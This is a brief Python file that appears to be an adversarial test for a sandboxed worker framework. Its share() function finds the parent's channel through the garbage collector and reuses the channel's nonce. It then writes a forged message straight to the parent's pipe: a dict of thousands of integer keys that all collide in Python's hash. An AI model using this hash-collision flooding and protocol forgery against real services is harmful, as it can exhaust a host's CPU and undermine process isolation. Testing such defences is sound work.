"""Answer a dict whose keys all fall into one slot."""

PROMISE = "ends"
CONTAINED_BY = ("bubblewrap", "landlock", "none")


def share(x):
    import gc
    import json
    import os
    import struct

    parent = next(o for o in gc.get_objects() if type(o).__name__ == "Channel")
    step = 2**61 - 1  # what Python divides by to hash an int
    keys = [[["int", hex(n * step)], 0] for n in range(1, 12_000)]
    header = json.dumps(["dict", [["value", ["dict", keys]]]]).encode()
    head = struct.pack("<4s16sIQ", b"CKF1", parent.nonce, len(header), 0)
    data = memoryview(head + header)
    while data:
        data = data[os.write(parent.answers, data) :]
